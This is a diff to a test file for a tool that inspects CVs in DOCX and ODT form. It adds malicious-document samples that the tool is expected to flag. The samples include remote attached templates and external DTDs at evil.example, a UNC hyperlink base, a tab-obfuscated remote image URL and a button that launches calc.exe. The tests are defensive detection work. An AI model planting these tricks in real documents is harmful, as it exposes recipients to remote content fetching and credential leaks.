@@ -45,6 +45,7 @@ const USUAL_FILES = {
     ["hyperlink", "mailto:jan@example.com", "External"],
     ["hyperlink", "tel:+420000000000", "External"],
     ["hyperlink", "linkedin.com/in/jan", "External"],
+    ["attachedTemplate", "Macintosh%20HD:Users:jan:Library:CV.dotx", "External"],
     ["hyperlink", "#top"],
   ),
   "word/_rels/settings.xml.rels": relations([
@@ -72,6 +73,10 @@ const USUAL_FILES = {
   "word/diagrams/quickStyle1.xml": "<dgm:styleDef/>",
   "customXml/item1.xml": '<b:Sources SelectedStyle="\\APASixthEditionOfficeOnline.xsl"/>',
   "docProps/core.xml": "<cp:coreProperties/>",
+  "docProps/app.xml":
+    "<Properties><HyperlinkBase>https://jan.example/</HyperlinkBase></Properties>",
+  "word/media/icon.svg":
+    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
   "docProps/thumbnail.jpeg": "x",
   "docMetadata/LabelInfo.xml": "<clbl:labelList/>",
   "[trash]/0000.dat": "\0",
@@ -112,6 +117,15 @@ test.each<[string, string | Buffer]>([
   ["a picture called hyperlink", docxWithRelation("image", "http://evil.example/hyperlink")],
   ["a picture, before a sign that ends elements", docxWithRelation("image", `${EVIL_URL}" a="b>c`)],
   ["an older picture from elsewhere", docxWithXml(`<v:imagedata src="${EVIL_URL}"/>`)],
+  [
+    "a template at an address that looks like a folder of a Mac",
+    docxWithRelation("attachedTemplate", "http:Users:a@evil.example/a.dotm"),
+  ],
+  ["the other picture of an older shape", docxWithXml(`<v:fill o:althref="${EVIL_URL}"/>`)],
+  [
+    "a base of its links on another computer",
+    docx({ "docProps/app.xml": "<a><HyperlinkBase>\\\\evil\\a\\</HyperlinkBase></a>" }),
+  ],
   ["a frame", docxWithRelation("frame", EVIL_URL)],
   ["a subdocument", docxWithRelation("subDocument", EVIL_URL)],
   ["a mail merge", docxWithXml("<w:mailMerge/>")],
@@ -143,6 +157,10 @@ test.each<[string, string | Buffer]>([
   [
     "with an entity of its own",
     docxWithXml('<!DOCTYPE a [<!ENTITY e "DDEAUTO">]><w:instrText>&e;</w:instrText>'),
+  ],
+  [
+    "with a document type of another computer",
+    docx({ "word/document.xml": `<!DOCTYPE w SYSTEM "${EVIL_URL}"><w:document/>` }),
   ],
   [
     "in UTF-32",
@@ -200,7 +218,8 @@ test.each<[string, string | Buffer]>([
         '<svg:font-face-uri xlink:href="Fonts/font1.ttf"/><text:a xlink:href="mailto:a@b.example"/>',
       "manifest.rdf": '<rdf:RDF rdf:resource="http://docs.oasis-open.org/ns/office/1.2"/>',
       "layout-cache": "x",
-      "META-INF/manifest.xml": "<manifest:manifest/>",
+      "META-INF/manifest.xml":
+        '<!DOCTYPE m PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><m/>',
       "Configurations2/accelerator/current.xml": "",
       "Configurations2/images/Bitmaps/": "",
       "Pictures/1.png": "x",
@@ -233,6 +252,11 @@ test.each<[string, string | Buffer]>([
   ["a key that starts a macro", odt('<a:item x:href="vnd.sun.star.script:a"/>', "keys.xml")],
   ["a link to a macro", odt('<text:a xlink:href="vnd.sun.star.script:a"/>')],
   ["a link to a program", odt('<text:a xlink:href="../../../usr/bin/a"/>')],
+  [
+    "a button to a program",
+    odt('<f:button f:button-type="url" x:href="file:///C:/Windows/System32/calc.exe"/>'),
+  ],
+  ["a picture from elsewhere, with a blank", odt('<d:image x:href="ht&#9;tp://evil.example/a"/>')],
   ["a link of a picture to a program", odt('<draw:a xlink:href="file:///C:/a.exe"/>')],
 ])("an ODT with %s is marked", async (_what, content) => {
   expect(await inspect(content)).toBe("unusualCv");
